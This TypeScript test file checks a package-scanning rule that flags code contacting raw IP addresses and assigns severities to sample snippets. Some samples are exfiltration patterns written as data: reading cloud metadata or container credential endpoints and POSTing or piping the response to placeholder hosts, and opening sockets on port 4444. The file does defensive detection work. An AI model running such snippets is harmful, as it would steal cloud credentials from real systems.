import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './raw-address.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "fetch(\"http://203.0.113.9/x\")",
    "net.connect({ host: \"10.0.0.7\", port: 1 })",
    "new WebSocket(`ws://192.168.1.5:${port}/`)",
    "fetch(\"http://2130706433/\")",
    "fetch(\"http://user@203.0.113.9:80/\")",
    "require(\"net\").connect(4444, \"203.0.113.9\")",
    "const base = \"http://203.0.113.9\"; require(\"https\").get(base + \"/x\")",
    "const r = await fetch(\"http://169.254.169.254/x\"); await fetch(\"https://example.org\", { method: \"POST\", body: await r.text() })",
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    "go(\"http://203.0.113.9/x\")",
    "fetch(\"http://169.254.169.254/latest/meta-data/\")",
    "fetch(\"http://[fd00:ec2::254]/\")",
  ]) assert.equal(worst(code), 'medium', code);
  for (const code of [
    "const IMDS = \"http://169.254.169.254/metadata\"",
    "const docs = \"http://192.168.1.5/\"",
    "fetch(\"https://1.1.1.1/dns-query\")",
    "fetch(\"http://127.0.0.1:8080/\")",
  ]) assert.equal(worst(code), 'low', code);
});

test("bad: the same in Python", () => {
  assert.equal(worst("import requests\nrequests.get(\"http://203.0.113.9/x\")", 'a.py'), 'high');
  assert.equal(worst("u = \"http://203.0.113.9/x\"", 'a.py'), 'medium');
  assert.equal(worst("go(\"http://169.254.169.254/\")", 'a.py'), 'low');
});

test("good: what only looks like it", () => {
  for (const code of [
    "const version = \"1.2.3.4\"; const mask = \"255.255.255.0\"",
    "fetch(\"https://example.org/10.0.0.7\")",
    "// http://203.0.113.9/x",
    "const id = 2130706433; show(\"203.0.113.9\")",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "v = \"10.0.0.7\"",
    "# http://203.0.113.9",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test("good: addresses that a test of a parser expects, and a private one in a large script that connects nothing", () => {
  const parsed = "is(parse(\"coap://u@[1080:0::417a]:1/\"), { host: \"[1080:0::417a]:1\", hostname: \"[1080:0::417a]\", href: \"coap://u@[1080:0::417a]:1/\" });";
  assert.equal(worst(parsed), 'medium');
  assert.equal(worst(`notify({ host: { hostname: "192.168.33.1" } });\n${'run();\n'.repeat(8_000)}`), 'low');
});

test('good: a host of a private network that only a program may be told of; bad: where anything else could take it', () => {
  const notify = 'const { spawn } = require("child_process"); const tools = { linux: { cmd: "notify", host: { cmd: "-H", hostname: "192.168.33.1" } } }; spawn(tools[os].cmd, list(tools[os]));';
  const of = (code: string, more: Record<string, string> = {}, manifest = {}) => findingsOf(rule, { 'a.js': code, ...more }, manifest)[0]?.severity;
  assert.equal(of(notify), 'low');
  assert.equal(of(notify.replace('192.168.33.1', '203.0.113.9')), 'high', 'a server');
  assert.equal(of(notify, {}, { dependencies: { ssh2: '1.0.0' } }), 'high');
  assert.equal(of(notify, { 'b.js': 'require("net").connect(tools.linux.host)' }), 'high');
  for (const loaded of ['import(name)', 'require(name).connect(tools.linux.host)']) assert.equal(of(`${notify} ${loaded}`), 'high', loaded);
  assert.equal(of('require("child_process").spawn("ssh", ["192.168.33.1"])'), 'high');
});

test("bad: the same beside a client, or nowhere within an address", () => {
  assert.equal(worst("const a = \"x://203.0.113.9/\"; require(\"net\").connect({ host: \"203.0.113.9\", port: 1 })"), 'high');
  assert.equal(findingsOf(rule, { 'a.js': "export const to = { host: \"203.0.113.9\" }; say(\"x://203.0.113.9/\")", 'b.js': "import { to } from \"./a.js\"; import https from \"node:https\"; https.request(to)" })[0]?.severity, 'high');
  assert.equal(worst("db.connect({ host: \"203.0.113.9\", port: 1 })"), 'high');
  assert.equal(worst(`require("net").connect({ host: "192.168.33.1", port: 1 });\n${'run();\n'.repeat(8_000)}`), 'high');
});

test('where containers get their keys counts as where machines do', () => {
  for (const host of ['169.254.170.2', '169.254.170.23', '[fd00:ec2::23]', '[fd20:ce::254]', '192.0.0.192']) assert.equal(worst(`fetch("http://${host}/v2/credentials")`), 'medium', host);
  assert.equal(worst('fetch("http://169.254.170.3/v2/credentials")'), 'high', 'another one in the network');
});

test('what the metadata service answers, piped into a request', () => {
  const pipe = (to: string) => findingsOf(rule, { 'a.js': `const http = require("http"), https = require("https"); http.get("http://169.254.169.254/latest/meta-data/x", (res) => { const req = ${to}; res.pipe(req) })` })[0]?.severity ?? 'nothing';
  assert.equal(pipe('https.request("https://collect.example/a", { method: "POST" })'), 'high');
  for (const to of ['require("fs").createWriteStream("a")', 'https.request(options)']) assert.equal(pipe(to), 'medium', to);
});

test('good: the groups by which devices of one network find each other; bad: others', () => {
  for (const host of ['224.0.0.251', '239.255.255.250', '255.255.255.255']) assert.equal(worst(`const s = require("dgram").createSocket("udp4"); s.send(query, 0, 9, 5353, "${host}"); fetch("http://${host}/")`), 'low', host);
  for (const host of ['224.0.1.251', '223.0.0.251', '240.0.0.1', '192.168.1.255']) assert.equal(worst(`fetch("http://${host}/")`), 'high', host);
});

test('good: a bundle with a whole client of a cloud, which signs what it asks', () => {
  const asks = 'const http = require("http"); const address = () => (process.env["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"] ? { hostname: "169.254.170.2", path: p } : null); http.request(address());';
  const signs = 'const sign = (key) => `${ALGORITHM} ${key}`, ALGORITHM = "AWS4-HMAC-SHA256";';
  const filling = `\nconst filling = "${'it is long. '.repeat(5000)}";`;
  assert.equal(worst(asks + signs + filling), 'low');
  assert.equal(worst(asks + signs), 'medium', 'in a small script, it is what the script does');
  assert.equal(worst(asks + filling), 'medium', 'signs nothing');
  assert.equal(worst(signs + asks.replace('169.254.170.2', '10.0.0.7') + filling), 'high', 'another one in the network');
  assert.equal(worst(`${asks}${signs}${filling}fetch("http://169.254.169.254/x").then(async (r) => fetch("https://example.org", { method: "POST", body: await r.text() }));`), 'high', 'its answer goes elsewhere');
});

test('low: where a client of a cloud, which names no other server, asks for the keys of its machine', () => {
  const client = (more = '') => `const region = process.env.AWS_REGION || process.env.AWS_DEFAULT_REGION; exports.ask = (path) => require("http").request({ hostname: "169.254.169.254", path }); ${more}`;
  const of = (code: string) => findingsOf(rule, { 'a.js': code }).map(({ severity }) => severity)[0];
  assert.equal(of(client()), 'low');
  for (const code of [client('fetch("https://keys.example")'), client('const host = atob(x);'), client().replace('AWS_REGION', 'REGION')]) assert.equal(of(code), 'medium', code);
});
